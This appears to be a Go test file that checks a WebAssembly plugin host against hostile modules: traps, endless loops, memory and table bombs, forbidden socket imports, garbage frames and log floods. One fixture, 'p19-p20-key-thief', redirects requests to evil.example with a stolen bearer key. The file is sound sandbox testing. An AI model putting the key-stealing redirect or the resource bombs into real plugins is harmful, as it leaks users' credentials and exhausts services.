package wasm

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/claude-proxy/claude-proxy/host/wasm/meter"
	"github.com/claude-proxy/claude-proxy/host/wasm/wasmtest"
	"github.com/claude-proxy/claude-proxy/sdk/abi"
	"github.com/claude-proxy/claude-proxy/sdk/adapter"
	"github.com/claude-proxy/claude-proxy/sdk/ops"
	"github.com/claude-proxy/claude-proxy/sdk/render"
)

var update = flag.Bool("update", false, "write the listings of testdata/faults anew")

// badModule is a module that does one thing wrong, and what becomes of it.
type badModule struct {
	name   string // the number of the fault and a word
	module wasmtest.Module
	// refused is a part of the error with which the module is not even loaded.
	refused string
	// at is the call in which it fails, with this reason. Where there is neither, it works, and harms nobody.
	at     string
	reason Reason
	// illFormed: its ops are what the host refuses.
	illFormed bool
}

// in is a module whose export runs this code and returns nothing.
func in(export string, code ...[]byte) wasmtest.Module {
	return wasmtest.Module{Bodies: map[string][]byte{export: wasmtest.Code(append(code, wasmtest.I64Const(0))...)}}
}

// gives is a module whose export returns this.
func gives(export string, r wasmtest.Result) wasmtest.Module {
	return wasmtest.Module{Results: map[string]wasmtest.Result{export: r}}
}

// says is a module whose exchange emits these ops at each event.
func says(emit func(out *ops.Emitter)) wasmtest.Module {
	var out ops.Emitter
	emit(&out)
	return gives(abi.ExportEvent, wasmtest.Result{Bytes: out.Buf})
}

func badModules() []badModule {
	i32 := wasmtest.I32
	recursion := in(abi.ExportEvent)
	recursion.Bodies[abi.ExportEvent] = wasmtest.Code(wasmtest.LocalGet(0), wasmtest.LocalGet(1), wasmtest.Call(recursion.Func(abi.ExportEvent)))
	exit := in(abi.ExportEvent, wasmtest.I32Const(3), wasmtest.Call(0))
	exit.Imports = []wasmtest.Import{{Module: abi.WASI, Name: "proc_exit", Params: []byte{i32}}}
	chatty := in(abi.ExportEvent, wasmtest.I32Const(2), wasmtest.I32Const(4096), wasmtest.I32Const(64), wasmtest.Call(0))
	chatty.Imports = []wasmtest.Import{{Module: abi.Module, Name: abi.Log, Params: []byte{i32, i32, i32}}}
	flood := in(abi.ExportEvent, wasmtest.Loop(wasmtest.I32Const(2), wasmtest.I32Const(4096), wasmtest.I32Const(64), wasmtest.Call(0)))
	flood.Imports = chatty.Imports
	tables := in(abi.ExportEvent, wasmtest.Loop(wasmtest.GrowTable(1000)))
	tables.TableMin = 1
	at := func(ptr, n uint32) wasmtest.Module {
		return wasmtest.Module{Bodies: map[string][]byte{abi.ExportEvent: wasmtest.I64Const(int64(abi.Pack(ptr, n, false)))}}
	}
	imports := func(module, name string) wasmtest.Module {
		return wasmtest.Module{Imports: []wasmtest.Import{{Module: module, Name: name, Params: []byte{i32}, Results: []byte{i32}}}}
	}
	list := []badModule{
		{name: "p01-trap-at-third-event", module: in(abi.ExportEvent, wasmtest.Nth(3, wasmtest.Unreachable())), at: abi.ExportEvent, reason: Trapped},
		{name: "p01-exit", module: exit, at: abi.ExportEvent, reason: Exited},
		{name: "p01-trap-at-start", module: wasmtest.Module{Initialize: wasmtest.Unreachable()}, refused: "trapped in _initialize"},
		{name: "p02-endless-start", module: wasmtest.Module{Initialize: wasmtest.Loop()}, refused: "budget of instructions in _initialize"},
		{name: "p02-endless-fill", module: in(abi.ExportEvent, wasmtest.Loop(wasmtest.Fill(2<<20))), at: abi.ExportEvent, reason: OutOfFuel},
		{name: "p02-slow-drip", module: in(abi.ExportEvent, wasmtest.Loop(wasmtest.Fill(1))), at: abi.ExportEvent, reason: OutOfFuel},
		{name: "p03-memory-bomb", module: in(abi.ExportEvent, wasmtest.Loop(wasmtest.Grow(1))), at: abi.ExportEvent, reason: OutOfFuel},
		{name: "p03-large-from-the-start", module: wasmtest.Module{MemoryMin: 1 << 15}, refused: "memory"},
		{name: "p04-table-bomb", module: tables, at: abi.ExportEvent, reason: OutOfFuel},
		{name: "p04-large-table", module: wasmtest.Module{TableMin: 1 << 27}, refused: "table"},
		{name: "p05-recursion", module: recursion, at: abi.ExportEvent, reason: TooDeep},
		{name: "p06-deep-nesting", module: in(abi.ExportEvent, wasmtest.Nest(1100)), refused: "nest"},
		{name: "p08-wide-memory", module: wasmtest.Module{Wide: true}, refused: "wasm32"},
		{name: "p09-other-abi", module: wasmtest.Module{Marker: abi.MarkerPrefix + "9"}, refused: "ABI version 9"},
		{name: "p09-missing-exports", module: wasmtest.Module{Omit: []string{abi.ExportBegin, abi.ExportEnd}}, refused: "cp_begin, cp_end"},
		{name: "p10-socket", module: imports(abi.WASI, "sock_open"), refused: "sock_open"},
		{name: "p10-host-function", module: imports("env", "spy"), refused: "env.spy"},
		{name: "p11-place-outside-memory", module: at(0xfffffff0, 64), at: abi.ExportEvent, reason: Garbage},
		{name: "p11-lying-length", module: at(0, 1<<30), at: abi.ExportEvent, reason: Garbage},
		{name: "p11-garbage-frame", module: gives(abi.ExportBegin, wasmtest.Result{Bytes: []byte("garbage, not a frame"), Frame: true}), at: abi.ExportBegin, reason: Garbage},
		{name: "p11-arena-outside-memory", module: wasmtest.Module{Bodies: map[string][]byte{abi.ExportAlloc: wasmtest.I32Const(-8)}}, at: abi.ExportAlloc, reason: Garbage},
		{name: "p12-delta-of-no-block", module: says(func(out *ops.Emitter) { out.ToolArgsString(3, `{}`) }), illFormed: true},
		{name: "p12-smuggled-frame", module: says(func(out *ops.Emitter) {
			out.TextString(0, "x")
			copy(out.Buf[len(out.Buf)-1:], "\xff")
		}), illFormed: true},
		{name: "p12-two-ends", module: says(func(out *ops.Emitter) {
			out.TextString(0, "x")
			out.BlockEnd(7)
			out.Stop(ops.EndTurn, "", nil)
			out.Stop(ops.ToolUse, "", nil)
			out.Done()
		}), illFormed: true},
		{name: "p19-p20-key-thief", module: gives(abi.ExportBegin, wasmtest.Begin(func(up *adapter.UpstreamRequest) {
			up.Path = "//evil.example/v1?key=stolen"
			up.Header("authorization", "Bearer stolen")
		}))},
		{name: "p21-chatty", module: chatty},
		{name: "p21-log-flood", module: flood, at: abi.ExportEvent, reason: OutOfFuel},
	}
	for _, export := range append([]string{abi.ExportManifest, abi.ExportConfigure}, answering...) {
		for _, c := range []struct {
			word   string
			code   []byte
			reason Reason
		}{{"p01-trap", wasmtest.Unreachable(), Trapped}, {"p02-endless", wasmtest.Loop(), OutOfFuel}} {
			b := badModule{name: c.word + "-" + strings.TrimPrefix(export, "cp_"), module: in(export, c.code), at: export, reason: c.reason}
			if export == abi.ExportManifest {
				b.refused = reasonTexts[c.reason]
			}
			list = append(list, b)
		}
	}
	return list
}

// TestFaultModules holds each module against its listing in testdata/faults and sees that it ends as the list says, within
// its budget, that a healthy exchange beside it notices nothing, and that its memory comes back.
func TestFaultModules(t *testing.T) {
	_, healthy := loadTrouble(t, Options{})
	neighbour := mustBegin(t, healthy, "neighbour")
	defer neighbour.Close()
	for _, b := range badModules() {
		t.Run(b.name, func(t *testing.T) {
			module := b.module.Bytes()
			checkListing(t, b.name, module)
			limits := small
			limits.FuelStart = 10_000_000
			p, _, err := NewLoader(Config{}).Load(t.Context(), module, Options{Limits: limits})
			if b.refused != "" {
				checkRefused(t, b.refused, p, err)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			defer p.Close()
			checkFault(t, &b, p)
			if err := neighbour.say(b.name); err != nil {
				t.Errorf("the neighbour: %v", err)
			}
			// What is left are the spare and, where nothing trapped, the instance that served.
			p.fills.Wait()
			if s := p.Stats(); s.Exchanges != 0 || s.Memory > 2*limits.Memory {
				t.Errorf("afterwards %+v", s)
			}
		})
	}
}

func checkListing(t *testing.T, name string, module []byte) {
	t.Helper()
	file := filepath.Join("testdata", "faults", name+".wat")
	text := wasmtest.Listing(module)
	if *update {
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if want, err := os.ReadFile(file); err != nil || string(want) != text {
		t.Errorf("the listing %s is not that of the module (%v); go test ./host/wasm -run FaultModules -update writes it", file, err)
	}
	// Where the WebAssembly toolkit is there, it must make the same bytes of the listing.
	tool, err := exec.LookPath("wat2wasm")
	if err != nil {
		return
	}
	out := filepath.Join(t.TempDir(), "m.wasm")
	if said, err := exec.Command(tool, "--enable-memory64", "--no-check", file, "-o", out).CombinedOutput(); err != nil {
		t.Fatalf("wat2wasm: %v\n%s", err, said)
	}
	if got, err := os.ReadFile(out); err != nil || !bytes.Equal(got, module) {
		t.Errorf("wat2wasm makes another module of the listing (%v)", err)
	}
}

func checkRefused(t *testing.T, want string, p *Plugin, err error) {
	t.Helper()
	if err == nil {
		p.Close()
		t.Fatal("it was loaded")
	}
	_, refused := errors.AsType[*Refused](err)
	_, metered := errors.AsType[*meter.Error](err)
	_, failed := errors.AsType[*Error](err)
	if !refused && !metered && !failed || !strings.Contains(err.Error(), want) {
		t.Errorf("%T %v", err, err)
	}
}

// checkFault runs into the fault three times.
func checkFault(t *testing.T, b *badModule, p *Plugin) {
	t.Helper()
	before, _ := p.Spent()
	for range 3 {
		if b.at == abi.ExportEvent || b.at == "" {
			checkEvents(t, b, p)
			continue
		}
		var err error
		if b.at == abi.ExportAlloc { // which comes before everything else
			_, err = p.Configure(parse(t, `{}`))
		} else {
			err = reach(t, p, b.at)
		}
		if e, ok := errors.AsType[*Error](err); !ok || e.Reason != b.reason || e.Call != b.at {
			t.Errorf("%v", err)
		}
	}
	// One budget for each call, and what may run between two checks.
	calls := p.Stats().Calls
	if spent, _ := p.Spent(); spent-before > calls*(small.FuelPerEvent+10_000) {
		t.Errorf("%d units in %d calls", spent-before, calls)
	}
}

// checkEvents gives three events.
func checkEvents(t *testing.T, b *badModule, p *Plugin) {
	t.Helper()
	x, err := begin(configure(t, p, `{}`), "a", client(t, `{"model":"m"}`))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for range 3 {
		if _, err = x.send(`{}`); err != nil {
			break
		}
	}
	e, faulted := errors.AsType[*Error](err)
	switch {
	case b.at != "":
		if !faulted || e.Reason != b.reason || e.Call != b.at {
			t.Errorf("%v", err)
		}
	case err != nil:
		t.Errorf("%v", err)
	case b.illFormed:
		if _, err := render.NewStream(render.Meta{ID: "msg_1", Model: "m"}).Apply(nil, x.em.Buf); err == nil {
			t.Errorf("the ops pass\n%s", ops.Dump(x.em.Buf))
		}
	}
}
